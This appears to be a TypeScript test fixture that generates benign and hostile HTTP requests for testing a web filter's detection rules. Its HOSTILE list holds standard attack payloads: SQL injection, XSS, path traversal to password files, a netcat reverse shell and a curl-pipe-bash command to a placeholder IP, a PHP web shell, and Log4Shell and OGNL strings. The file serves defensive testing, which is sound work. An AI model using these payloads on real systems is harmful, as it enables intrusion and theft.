/** Requests that honest people and attackers send, made from texts of our own in every place that a request has. */
import { numbers } from '../numbers.ts';

/** What browsers, interfaces and people send. */
export const BENIGN: readonly string[] = [
  'hello world',
  "O'Reilly & Sons",
  'Select a shirt, drop it into the basket',
  'The union of both sets, ordered by name',
  '1 + 1 = 2; 3 > 2',
  'a@b.example',
  '2026-11-27T10:00:00+01:00',
  '+49 (0)30 1234567',
  'https://shop.example/list?page=2&sort=price#top',
  '\xe4\xb8\xad\xe6\x96\x87\xe8\xbe\x93\xe5\x85\xa5\xef\xbc\x8c\xe6\xb5\x8b\xe8\xaf\x95',
  'Gr\xc3\xbc\xc3\x9fe aus K\xc3\xb6ln \xf0\x9f\x98\x80',
  '# Title\n\n- one\n- two\n\n```js\nconst a = [1, 2].map(x => x * 2);\n```\n',
  'for (let i = 0; i < n; i++) { total += price[i]; }',
  'SELECT name FROM users WHERE id = 1',
  '<p>An <b>honest</b> paragraph</p>',
  'C:\\Users\\ann\\Documents\\letter.docx',
  'passwords are changed at /etc once a year',
  'true',
  '-12.5',
  '',
  'e3b0c44298fc1c149afbf4c8996fb924',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  '50% off, and 100%25 of it',
  '$100 for {name}',
  'line one\r\nline two',
  '{"a":[1,2,{"b":null}]}',
  'x'.repeat(600),
];

/** What the rules are there for. */
export const HOSTILE: readonly string[] = [
  "' OR 1=1 --",
  "1' UNION SELECT username, password FROM users#",
  "1;WAITFOR DELAY '0:0:5'--",
  "admin'/**/AND/**/'1'='1",
  '1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  "'; EXEC xp_cmdshell('dir'); --",
  '0x50 + 0x45',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '<svg/onload=confirm`1`>',
  '"><iframe src="javascript:alert(1)">',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fshadow',
  '....//....//windows/win.ini',
  '/proc/self/environ',
  '; cat /etc/passwd',
  '| nc -e /bin/sh 192.0.2.1 4444',
  '$(curl http://192.0.2.1/a.sh | bash)',
  '`id`',
  '() { :; }; echo vulnerable',
  'cmd.exe /c dir c:\\',
  'powershell -enc SQBFAFgA',
  '<?php system($_GET["c"]); ?>',
  'php://filter/convert.base64-encode/resource=index.php',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'phpinfo()',
  '${jndi:ldap://192.0.2.1/a}',
  '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}',
  'http://169.254.169.254/latest/meta-data/',
  'http://192.0.2.1/shell.txt?',
  '{{7*7}}',
  'a\r\nSet-Cookie: session=1',
  'a\r\n\r\n<html>',
  '1%00.php',
  '{"$ne": null}',
  '*)(uid=*))(|(uid=*',
  'require("child_process").exec("id")',
  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==',
  'session_id=1&PHPSESSID=deadbeef',
  '%u003cscript%u003e',
  '\xc0\xaf\xc0\xaf',
  'sleep(5)',
  'user=admin&user=guest',
];

const encode = (text: string): string =>
  text.replace(/[^A-Za-z0-9_.~-]/g, char => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`);
const inHeader = (text: string): string => text.replace(/[\r\n\0]+/g, ' ').trim();
/** One-byte string of UTF-8 in and out. */
const inJson = (text: string): string => {
  const json = JSON.stringify(Buffer.from(text, 'latin1').toString('utf8'));
  return Buffer.from(json, 'utf8').toString('latin1');
};
const inXml = (text: string): string => text.replace(/[&<>]/g, sign => `&#${sign.charCodeAt(0)};`);

interface Parts {
  readonly method?: string;
  readonly target?: string;
  readonly fields?: readonly string[];
  readonly body?: string;
}

/** A request as a browser sends it, but for what it carries; one char a byte. */
function wire({ method = 'GET', target = '/', fields = [], body = '' }: Parts): string {
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: shop.example',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36',
    'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
    'Connection: close',
    ...fields,
    ...(method === 'POST' ? [`Content-Length: ${body.length}`] : []),
  ];
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
}

const post = (type: string, body: string, target = '/save'): string =>
  wire({ method: 'POST', target, fields: [`Content-Type: ${type}`], body });

const FORM = 'application/x-www-form-urlencoded';
const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
const part = (disposition: string, content: string, type = ''): string =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; ${disposition}\r\n${type && `Content-Type: ${type}\r\n`}\r\n${content}\r\n`;

/** Where a text can stand. */
const PLACES: Readonly<Record<string, (text: string) => string>> = {
  query: text => wire({ target: `/search?q=${encode(text)}&page=2` }),
  'query, encoded twice': text => wire({ target: `/search?q=${encode(encode(text))}` }),
  'name of a parameter': text => wire({ target: `/search?${encode(text)}=1` }),
  path: text => wire({ target: `/files/${encode(text)}` }),
  cookie: text => wire({ fields: [`Cookie: lang=de; note=${encode(text)}`] }),
  'user agent': text => wire({ fields: [`X-Client: ${inHeader(text)}`] }),
  referer: text => wire({ fields: [`Referer: https://shop.example/?from=${encode(text)}`] }),
  form: text => post(FORM, `title=new&text=${encode(text)}&send=1`),
  'form with plus signs': text => post(FORM, `text=${encode(text).replaceAll('%20', '+')}`),
  json: text => post('application/json', `{"id":7,"text":${inJson(text)},"tags":["a",${inJson(text)}]}`),
  xml: text =>
    post('application/xml', `<?xml version="1.0"?><note to="ann"><text>${inXml(text)}</text></note>`),
  multipart: text =>
    post(
      `multipart/form-data; boundary=${BOUNDARY}`,
      `${part('name="text"', text)}${part('name="file"; filename="letter.txt"', text, 'text/plain')}--${BOUNDARY}--\r\n`,
    ),
  'name of a file': text =>
    post(
      `multipart/form-data; boundary=${BOUNDARY}`,
      `${part(`name="file"; filename="${text.replace(/["\r\n\0\\]/g, '_')}"`, 'content', 'image/png')}--${BOUNDARY}--\r\n`,
    ),
};

/** Requests that are odd as such, whatever they carry. */
const ODD: Readonly<Record<string, string>> = {
  'no agent': 'GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n',
  'address as host':
    'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: a\r\nAccept: */*\r\nConnection: close\r\n\r\n',
  'method that nobody knows': wire({ method: 'BREW', target: '/pot' }),
  'backup file': wire({ target: '/config.php.bak' }),
  'version that nobody allows': wire({}).replace('HTTP/1.1', 'HTTP/1.2'),
  'hidden file': wire({ target: '/.git/config' }),
  scanner:
    'GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.7\r\nAccept: */*\r\nConnection: close\r\n\r\n',
  'type that nobody allows': post('application/x-shockwave', 'abc'),
  'two types': post('application/json, text/plain', '{"a":1}'),
  'broken JSON': post('application/json', '{"a":'),
  'broken XML': post('text/xml', '<a><b></a>'),
  'body that is no form': post(FORM, '\0\x01\x02'),
  'many parameters': wire({
    target: `/?${Array.from({ length: 300 }, (_, at) => `a${at}=${at}`).join('&')}`,
  }),
  'long parameter': wire({ target: `/?a=${'b'.repeat(500)}` }),
  'long name': wire({ target: `/?${'a'.repeat(120)}=1` }),
  'broken percent': wire({ target: '/?a=%zz&b=%4' }),
  'range of many parts': wire({
    fields: [`Range: bytes=${Array.from({ length: 10 }, (_, at) => `${at}-${at + 1}`).join(',')}`],
  }),
  'empty Accept':
    'GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: a\r\nAccept:\r\nConnection: close\r\n\r\n',
  'boundary that does not come': post(`multipart/form-data; boundary=${BOUNDARY}`, 'nothing of that kind'),
  'end that is missing': post(`multipart/form-data; boundary=${BOUNDARY}`, part('name="a"', 'b')),
  'two fields of one name': wire({ target: '/?id=1&id=2%20union%20select%203' }),
};

/** What a request is, and its bytes. */
export type Sent = readonly [what: string, wire: string];

/**
 * Texts in places, what is odd, and texts that were cut and joined by chance.
 *
 * @param step 1: every text in every place; 3: in every third
 * @param joined how many of the last kind
 */
export function requests(step: number, joined: number, seed: number): Sent[] {
  const pick = numbers(seed);
  const sent: Sent[] = Object.entries(ODD);
  const texts = [
    ...BENIGN.map((text, at) => [`benign ${at + 1}`, text] as const),
    ...HOSTILE.map((text, at) => [`hostile ${at + 1}`, text] as const),
  ];
  for (const [at, [place, put]] of Object.entries(PLACES).entries())
    for (const [of, [name, text]] of texts.entries())
      if ((at + of) % step === 0) sent.push([`${name} in ${place}`, put(text)]);
  const all = texts.map(([, text]) => text);
  const places = Object.entries(PLACES);
  for (let count = 0; count < joined; count++) {
    const [one, other] = [all[pick(all.length)]!, all[pick(all.length)]!];
    const text = one.slice(0, pick(one.length + 1)) + other.slice(pick(other.length + 1));
    const [place, put] = places[pick(places.length)]!;
    sent.push([`joined ${count} of seed ${seed} in ${place}`, put(text)]);
  }
  return sent;
}
